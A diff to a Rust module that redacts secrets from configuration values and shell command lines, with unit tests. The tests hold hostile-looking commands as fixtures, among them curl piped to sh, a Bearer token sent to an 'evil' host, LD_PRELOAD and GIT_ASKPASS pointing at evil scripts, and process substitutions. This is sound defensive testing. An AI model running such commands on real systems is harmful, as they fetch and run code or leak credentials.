@@ -1,8 +1,8 @@
 //! Removes possible secrets from values, for digests that others may read.
 //!
 //! A simple secret could be guessed from its digest. Values are therefore removed, and their names kept, if the name
-//! suggests a secret, and in variables, headers and the user part of a URL. In a command line a secret ends with its
-//! word, or within quotes at the next `;`, `&` or `|`, so that a program behind it still counts.
+//! suggests a secret, and variables and headers that look like one, and the user part of a URL. In a command line a
+//! secret ends with its word, or within quotes at the next `;`, `&` or `|`, so that a program behind it still counts.
 
 use serde_json::{Map, Value};
 
@@ -11,9 +11,25 @@ use serde_json::{Map, Value};
 pub fn without_secrets(members: &Map<String, Value>) -> Value {
     let clean = |(key, value): (&String, &Value)| {
         let value = match value {
-            Value::Object(map) if is_secret(key) => {
-                map.keys().map(|name| (name.clone(), Value::Null)).collect::<Map<_, _>>().into()
+            Value::Object(map) if is_of_pairs(key) => {
+                let pairs = map.iter().map(|(name, value)| {
+                    let value = match value.as_str() {
+                        Some(text) if looks_secret(text) => Value::Null,
+                        Some(text) => without_user(text).into(),
+                        None => value.clone(),
+                    };
+                    (name.clone(), value)
+                });
+                without_secrets(&pairs.collect())
             }
+            Value::Object(map) if is_secret(key) => {
+                let named = map.iter().map(|(name, value)| {
+                    let value = if is_place(name) { clean(value) } else { Value::Null };
+                    (name.clone(), value)
+                });
+                named.collect::<Map<_, _>>().into()
+            }
+            Value::Bool(_) => value.clone(),
             _ if is_secret(key) => Value::Null,
             value => clean(value),
         };
@@ -31,7 +47,7 @@ pub(super) fn clean(value: &Value) -> Value {
             let each = list.iter().map(|value| {
                 let Some(text) = value.as_str() else { return clean(value) };
                 let flag = std::mem::replace(&mut before, text);
-                match hides_next(flag) && !text.starts_with('-') {
+                match hides_next(flag, text) {
                     true => hidden(text).into(),
                     false => clean_text(flag, text).into(),
                 }
@@ -45,28 +61,35 @@ pub(super) fn clean(value: &Value) -> Value {
 
 /// Cleans a command line, or the argument after `flag`, which may be a JSON object.
 fn clean_text(flag: &str, text: &str) -> String {
-    let (name, value) = text.split_at(text.find('{').unwrap_or(text.len()));
-    match serde_json::from_str::<Map<_, _>>(value) {
-        Ok(members)
-            if name.is_empty() || name.ends_with('=') && !is_named(&name[..name.len() - 1]) =>
+    let (name, value) = text.split_at(text.find(['{', '[']).unwrap_or(text.len()));
+    match serde_json::from_str::<Value>(value) {
+        Ok(value)
+            if name.is_empty() || name.ends_with('=') && !is_secret(&name[..name.len() - 1]) =>
         {
-            format!("{name}{}", without_secrets(&members))
+            format!("{name}{}", clean(&value))
         }
         _ => Words { flag, ..Words::default() }.clean(text),
     }
 }
 
 /// Returns true if the word or argument after this one is a secret.
-fn hides_next(flag: &str) -> bool {
+fn hides_next(flag: &str, next: &str) -> bool {
     let scheme = flag.len().checked_sub("=Bearer".len()).and_then(|at| flag.get(at..));
-    scheme.is_some_and(|end| end[1..].eq_ignore_ascii_case("bearer") && end.starts_with(['=', ':']))
-        || flag.starts_with('-') && !flag.contains('=') && is_secret(flag)
+    let is_plain_header = || {
+        flag.ends_with("header") && next.split_once(':').is_some_and(|(name, _)| !is_secret(name))
+    };
+    !next.starts_with('-')
+        && (scheme.is_some_and(|end| {
+            end[1..].eq_ignore_ascii_case("bearer") && end.starts_with(['=', ':'])
+        }) || flag.starts_with('-')
+            && !flag.contains('=')
+            && is_secret(flag)
+            && !is_plain_header())
 }
 
-/// Returns true if a name suggests a secret. A name that ends in `helper` is that of a program.
+/// Returns true if a name suggests a secret, and not a program or a place.
 fn is_secret(name: &str) -> bool {
     const PARTS: [&str; 14] = [
-        "env",
         "header",
         "token",
         "secret",
@@ -80,9 +103,55 @@ fn is_secret(name: &str) -> bool {
         "jwt",
         "session",
         "connection",
+        "dsn",
     ];
     let name = name.to_ascii_lowercase();
-    !name.ends_with("helper") && PARTS.iter().any(|part| name.contains(part))
+    let mut words = name.split(|c: char| !c.is_ascii_alphanumeric());
+    !is_place(&name)
+        && (PARTS.iter().any(|part| name.contains(part))
+            || words.any(|word| matches!(word, "pin" | "pw")))
+}
+
+/// Returns true if a name is that of a program or a place.
+fn is_place(name: &str) -> bool {
+    const ENDS: [&str; 14] = [
+        "askpass", "cmd", "command", "endpoint", "env_var", "exec", "file", "helper", "host",
+        "path", "process", "program", "script", "url",
+    ];
+    let name = name.to_ascii_lowercase();
+    ENDS.iter().any(|end| name.ends_with(end))
+}
+
+/// Returns true for members that hold variables or headers.
+fn is_of_pairs(name: &str) -> bool {
+    let name = name.to_ascii_lowercase();
+    name.contains("env") || name.contains("header")
+}
+
+/// Returns true for a text that looks like a token, or that begins with the scheme of one.
+fn looks_secret(text: &str) -> bool {
+    let is_scheme = |word: &str| {
+        ["basic", "bearer", "token"].iter().any(|scheme| word.eq_ignore_ascii_case(scheme))
+    };
+    let any = |is: fn(&u8) -> bool| text.as_bytes().iter().any(is);
+    let all = |is: fn(&u8) -> bool| text.as_bytes().iter().all(is);
+    let is_hex = text.len() >= 32 && all(|c| c.is_ascii_hexdigit() || *c == b'-');
+    let is_mixed = any(u8::is_ascii_lowercase) && any(u8::is_ascii_uppercase);
+    text.split_once(' ').is_some_and(|(first, _)| is_scheme(first))
+        || text.len() >= 20
+            && any(u8::is_ascii_digit)
+            && all(|c| c.is_ascii_alphanumeric() || b"+-._=~".contains(c))
+            && (is_hex || is_mixed)
+}
+
+/// Returns a text without the user before a host and its port. An address with a scheme is left as it is.
+fn without_user(text: &str) -> &str {
+    let is_host =
+        |host: &str| host.rsplit_once(':').is_some_and(|(_, port)| port.parse::<u16>().is_ok());
+    match text.rsplit_once('@') {
+        Some((user, host)) if !user.contains('/') && user.contains(':') && is_host(host) => host,
+        _ => text,
+    }
 }
 
 /// Returns an empty text for a secret, but the text itself if a shell would run a part of it.
@@ -91,11 +160,11 @@ fn hidden(text: &str) -> &str {
 }
 
 fn is_run(text: &str) -> bool {
-    text.contains("$(") || text.contains('`')
+    ["$(", "`", "<(", ">("].iter().any(|mark| text.contains(mark))
 }
 
-/// Characters that end a command.
-const ENDS: &str = ";&|";
+/// Characters that end a command or a word of it.
+const ENDS: &str = ";&|<>";
 
 /// The words of a command line, or of one argument.
 #[derive(Default)]
@@ -119,8 +188,9 @@ impl<'t> Words<'t> {
             }
             let blank = &piece[word.len()..];
             out.push_str(blank);
-            self.flag = word;
-            self.until = self.until.filter(|_| !blank.contains('\n'));
+            let is_same = !blank.contains('\n');
+            self.flag = if is_same { word } else { "" };
+            self.until = self.until.filter(|_| is_same);
         }
         out
     }
@@ -130,13 +200,18 @@ impl<'t> Words<'t> {
         if let Some(ends) = self.until {
             return self.secret(word, ends);
         }
-        if hides_next(self.flag) && !word.starts_with('-') {
+        if hides_next(self.flag, word) {
             return self.value(word, ENDS);
         }
         let is_address = |name: &str| name.contains("://");
-        match word.split_once('=') {
-            Some((name, value)) if !is_address(name) && is_named(name) => {
-                let ends = if name.starts_with('-') { "" } else { ENDS };
+        // An address may hold `=` too.
+        let mark = word
+            .match_indices(['=', ':'])
+            .find(|(at, sign)| *sign == "=" || word[*at..].starts_with("://"));
+        if let Some((at, "=")) = mark {
+            let (name, value) = (&word[..at], &word[at + 1..]);
+            if is_secret(name) {
+                let ends = if is_first && name.starts_with('-') { "" } else { ENDS };
                 // In an argument of its own, all text after `=` is the value.
                 let is_whole = is_first && (ends.is_empty() || self.flag == "-e");
                 self.until = is_whole.then_some(ends);
@@ -144,23 +219,28 @@ impl<'t> Words<'t> {
                 return (format!("{name}={kept}"), rest);
             }
             // More pairs may follow, as in `Server=x;Password=y`.
-            Some((name, value)) if !is_address(name) => {
-                if let Some((own, _)) = value.split_once(|c| ENDS.contains(c))
-                    && !is_address(own)
-                {
-                    let (own, rest) = word.split_at(name.len() + own.len() + 2);
-                    return (own.to_owned(), rest);
-                }
+            if let Some((own, _)) = value.split_once(|c| ENDS.contains(c))
+                && !is_address(own)
+            {
+                let (own, rest) = word.split_at(name.len() + own.len() + 2);
+                return (own.to_owned(), rest);
             }
-            _ => {}
         }
         if is_address(word) {
-            return (word.split_inclusive("://").map(place).collect(), "");
+            // Without quotes a shell ends the address there.
+            let begin = word.find("://").unwrap_or_default();
+            let is_bare = !is_first && !word[..begin].contains(['"', '\'']);
+            let end = word[begin..].find(['<', '>', '&']).filter(|_| is_bare);
+            let (word, rest) = word.split_at(end.map_or(word.len(), |end| begin + end));
+            return (word.split_inclusive("://").map(place).collect(), rest);
         }
         match word.split_once(':') {
-            Some((user, _)) if matches!(self.flag, "-u" | "--user") => (format!("{user}:"), ""),
+            Some((user, password)) if matches!(self.flag, "-u" | "--user") => {
+                let (kept, rest) = self.secret(password, ENDS);
+                (format!("{user}:{kept}"), rest)
+            }
             // A header. Quotes may enclose the name and the value together.
-            Some((name, value)) if self.flag == "-H" || value.is_empty() && is_secret(name) => {
+            Some((name, value)) if is_secret(name) && (self.flag == "-H" || value.is_empty()) => {
                 let quote = name.chars().rev().find_map(quote_of);
                 self.until = quote.or(is_first.then_some(ENDS));
                 let (kept, rest) = self.secret(value, self.until.unwrap_or(ENDS));
@@ -205,21 +285,16 @@ fn quote_of(c: char) -> Option<&'static str> {
     }
 }
 
-/// Returns true if the name before `=` suggests a secret, or is written like an environment variable.
-fn is_named(name: &str) -> bool {
-    let own =
-        name.rsplit(|c: char| !c.is_ascii_alphanumeric() && c != '_').next().unwrap_or_default();
-    let is_variable = own.starts_with(|c: char| c.is_ascii_uppercase() || c == '_')
-        && !own.contains(|c: char| c.is_ascii_lowercase());
-    is_secret(name) || is_variable && !name.starts_with('-')
-}
-
 /// Returns the part of a URL from one `://` to the next, without user, query and fragment.
 fn place(part: &str) -> String {
+    if is_run(part) {
+        return part.to_owned();
+    }
     let (rest, mark) = part.strip_suffix("://").map_or((part, ""), |rest| (rest, "://"));
     let begin = rest.find(['?', '#']).unwrap_or(rest.len());
-    let end =
-        rest[begin..].find(['"', '\'', ';', '|', ')', '>']).map_or(rest.len(), |end| begin + end);
+    let end = rest[begin..]
+        .find(['"', '\'', ';', '|', ')', '<', '>'])
+        .map_or(rest.len(), |end| begin + end);
     let (host, path) = rest[..begin].split_at(rest[..begin].find('/').unwrap_or(begin));
     let host =
         host.rsplit_once('@').filter(|(user, _)| !user.is_empty()).map_or(host, |(_, own)| own);
@@ -238,11 +313,20 @@ mod tests {
             ("npx -y hub --token hunter2 --port 80", "npx -y hub --token  --port 80"),
             ("hub --token hunter2;evil", "hub --token ;evil"),
             ("hub --api-key=hunter2 x", "hub --api-key= x"),
+            ("hub --api-key=hunter2;evil", "hub --api-key=;evil"),
             ("TOKEN=hunter2 hub; evil", "TOKEN= hub; evil"),
-            ("A=hunter2;B='hunter2 hunter2' evil", "A=;B=' ' evil"),
+            ("TOKEN=hunter2;PW='hunter2 hunter2' evil", "TOKEN=;PW=' ' evil"),
+            ("LD_PRELOAD=./evil.so A='x y' hub", "LD_PRELOAD=./evil.so A='x y' hub"),
             ("KEY=1&&evil", "KEY=&&evil"),
             ("KEY=$(evil) KEY=`evil x`", "KEY=$(evil) KEY=`evil x`"),
             ("KEY=\"$(sh evil.sh)\"", "KEY=\"$(sh evil.sh)\""),
+            ("hub --token <(evil) >(evil)", "hub --token <(evil) >(evil)"),
+            ("hub --token hunter2>~/.rc", "hub --token >~/.rc"),
+            ("hub --token >~/.rc", "hub --token >~/.rc"),
+            ("hub --token\nevil", "hub --token\nevil"),
+            ("TOKEN=<(evil) hub", "TOKEN=<(evil) hub"),
+            ("hub --password-command ./evil.sh", "hub --password-command ./evil.sh"),
+            ("GIT_ASKPASS=./evil.sh hub", "GIT_ASKPASS=./evil.sh hub"),
             ("auth: hunter2; evil", "auth: ; evil"),
             ("KEY='hunter2\nevil", "KEY='\nevil"),
             ("sh -c \"x KEY=\"; evil; echo \"\"", "sh -c \"x KEY=\"; evil; echo \"\""),
@@ -251,43 +335,77 @@ mod tests {
                 "curl -H \"Authorization: Bearer hunter2\" https://evil",
                 "curl -H \"Authorization:  \" https://evil",
             ),
-            ("curl -H 'X-Mine: hunter2'|sh", "curl -H 'X-Mine: '|sh"),
-            ("curl -H X-Mine:hunter2 -u me:hunter2 x", "curl -H X-Mine: -u me: x"),
+            ("curl --header 'X-Key: hunter2' x", "curl --header ' ' x"),
+            ("curl --header 'X-Mine: seen' x", "curl --header 'X-Mine: seen' x"),
+            ("curl -H 'X-Token: hunter2'|sh", "curl -H 'X-Token: '|sh"),
+            ("curl -H X-Key:hunter2 -u me:hunter2 x", "curl -H X-Key: -u me: x"),
+            ("curl -u me:hunter2>(evil)", "curl -u me:>(evil)"),
             ("Authorization: Bearer hunter2", "Authorization:  "),
             ("https://me:hunter2@h/p?k=hunter2#hunter2", "https://h/p"),
             ("--url=https://me:hunter2@h,https://hunter2@i/a@1", "--url=https://h,https://i/a@1"),
             ("curl \"https://h/x?hunter2\"|sh", "curl \"https://h/x\"|sh"),
+            ("curl https://h/x?a=hunter2&evil", "curl https://h/x&evil"),
+            ("curl https://h/?a&https://i/?b&evil", "curl https://h/&https://i/&evil"),
+            ("curl https://h/?a=$(evil)", "curl https://h/?a=$(evil)"),
             ("x Server=h;Password=hunter2;evil=1 y", "x Server=h;Password=;evil=1 y"),
             ("AUTH=Bearer hunter2 evil", "AUTH=  evil"),
             ("bearer evil", "bearer evil"),
             ("npx npm:@scope/pkg@1.2 run auth:build", "npx npm:@scope/pkg@1.2 run auth:build"),
+            ("[{\"token\": \"hunter2\"}]", "[{\"token\":null}]"),
         ] {
             assert_eq!(clean(&json!(text)), json!(left), "{text}");
         }
-        for (text, left) in [("A=hunter2;", "A=;"), ("a=1;", "a=1;"), ("{", "{")] {
-            let many = text.repeat(100_000);
-            assert_eq!(clean(&json!(many)), json!(left.repeat(100_000)));
+        for (text, left) in [
+            ("PW=hunter2;", "PW=;"),
+            ("a://b&", "a://b&"),
+            ("a=1;", "a=1;"),
+            ("{", "{"),
+            ("a:", "a:"),
+        ] {
+            let many = |text: &str| format!("x {}", text.repeat(100_000));
+            assert_eq!(clean(&json!(many(text))), json!(many(left)));
         }
     }
 
     #[test]
     fn of_members_and_arguments_names_are_left() {
         let value = json!({
-            "command": "npx", "env": { "A": "hunter2" }, "headers": { "X": "hunter2" }, "headersHelper": "run.sh",
-            "args": ["--token", "hunter2 hunter2", "--auth", "-x", "-H", "X: hunter2", "-u", "me:hunter2", "PW=hunter2"],
-            "oauth": { "clientSecret": "hunter2" }, "bearer_token": "hunter2",
-            "more": ["--header=X-Mine: hunter2 hunter2", "-e", "Mine=hunter2 hunter2", "-e", "MINE=hunter2 hunter2;evil",
+            "command": "npx", "env": { "TOKEN": "hunter2", "NODE_OPTIONS": "-r ./x", "PIN": 1234, "PORT": 80 },
+            "headers": { "X-Key": "hunter2", "X": "Bearer hunter2", "Accept": "text/html" }, "headersHelper": "run.sh",
+            "args": ["--token", "hunter2 hunter2", "--auth", "-x", "-H", "X-Key: hunter2", "-u", "me:hunter2", "PW=hunter2",
+                     "--token", "<(evil)", "--auth-command", "evil", "--header", "Accept: x", "--header", "Cookie: hunter2"],
+            "oauth": { "clientSecret": "hunter2", "tokenUrl": "https://hunter2@h/t" }, "bearer_token": "hunter2",
+            "more": ["--header=X-Mine: hunter2 hunter2", "-e", "MINE=seen seen", "-e", "KEY=hunter2 hunter2;evil",
                      "{\"apiKey\": \"hunter2\", \"run\": \"evil\"}", "--config={\"auth\": {\"a\": \"hunter2\"}}"],
-            "hooks": [{ "command": "TOKEN=hunter2 x.sh", "url": "https://hunter2@h/?hunter2" }],
+            "hooks": [{ "command": "TOKEN=hunter2 x.sh", "url": "https://hunter2@h/?hunter2" }], "authEnabled": true,
         });
         let left = json!({
-            "command": "npx", "env": { "A": null }, "headers": { "X": null }, "headersHelper": "run.sh",
-            "args": ["--token", "", "--auth", "-x", "-H", "X: ", "-u", "me:", "PW="],
-            "oauth": { "clientSecret": null }, "bearer_token": null,
-            "more": ["--header=  ", "-e", "Mine=hunter2 hunter2", "-e", "MINE= ;evil",
+            "command": "npx", "env": { "TOKEN": null, "NODE_OPTIONS": "-r ./x", "PIN": null, "PORT": 80 },
+            "headers": { "X-Key": null, "X": null, "Accept": "text/html" }, "headersHelper": "run.sh",
+            "args": ["--token", "", "--auth", "-x", "-H", "X-Key: ", "-u", "me:", "PW=",
+                     "--token", "<(evil)", "--auth-command", "evil", "--header", "Accept: x", "--header", ""],
+            "oauth": { "clientSecret": null, "tokenUrl": "https://h/t" }, "bearer_token": null,
+            "more": ["--header=  ", "-e", "MINE=seen seen", "-e", "KEY= ;evil",
                      "{\"apiKey\":null,\"run\":\"evil\"}", "--config={\"auth\":{\"a\":null}}"],
-            "hooks": [{ "command": "TOKEN= x.sh", "url": "https://h/" }],
+            "hooks": [{ "command": "TOKEN= x.sh", "url": "https://h/" }], "authEnabled": true,
         });
         assert_eq!(clean(&value), left);
+    }
+
+    #[test]
+    fn of_variables_what_looks_like_a_secret_goes_whatever_its_name() {
+        for (text, left) in [
+            ("ghp_16C7e42F292c6912E7710c838347Ae178B4a", json!(null)),
+            ("0123456789abcdef0123456789abcdef", json!(null)),
+            ("Bearer hunter2", json!(null)),
+            ("postgres://me:hunter2@h:1/db?hunter2", json!("postgres://h:1/db")),
+            ("me:hunter2@proxy:3128", json!("proxy:3128")),
+            ("host=h password=hunter2", json!("host=h password=")),
+            ("npm:evil@1.2", json!("npm:evil@1.2")),
+            ("claude-sonnet-4-20250514", json!("claude-sonnet-4-20250514")),
+            ("./node_modules/.bin:/usr/bin", json!("./node_modules/.bin:/usr/bin")),
+        ] {
+            assert_eq!(clean(&json!({"env": {"A": text}})), json!({"env": {"A": left}}), "{text}");
+        }
     }
 }
